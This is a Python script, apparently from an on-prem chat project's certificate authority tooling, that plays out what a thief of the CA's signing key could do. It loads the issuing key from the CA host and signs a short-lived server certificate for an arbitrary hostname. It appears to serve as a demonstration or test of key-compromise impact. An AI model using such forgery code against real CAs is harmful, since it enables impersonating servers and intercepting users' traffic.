# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a thief of the CA's key would do: forge.py CSR NAME prints a chain for the CSR's key and another name.

Runs on the CA's host; the passphrase is in CA_PASSPHRASE.
"""

from __future__ import annotations

import datetime
import os
import sys
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding, load_pem_private_key

CA = Path("/etc/onprem-chat/ca")

csr = x509.load_pem_x509_csr(sys.argv[1].encode())
issuing = x509.load_pem_x509_certificate((CA / "issuing.crt").read_bytes())
key_file = next((CA / "private").glob("issuing-*.key"))
key = load_pem_private_key(key_file.read_bytes(), os.environ["CA_PASSPHRASE"].encode())
day = datetime.timedelta(days=1)
now = datetime.datetime.now(datetime.timezone.utc).replace(tzinfo=None)
forged = (
    x509.CertificateBuilder(issuing.subject, x509.Name([]), csr.public_key(), 99, now - day, now + day)
    .add_extension(x509.SubjectAlternativeName([x509.DNSName(sys.argv[2])]), critical=True)
    .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
    .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(issuing.public_key()), critical=False)
    .add_extension(x509.SubjectKeyIdentifier.from_public_key(csr.public_key()), critical=False)
    .sign(key, hashes.SHA256())
)
sys.stdout.write((forged.public_bytes(Encoding.PEM) + issuing.public_bytes(Encoding.PEM)).decode())
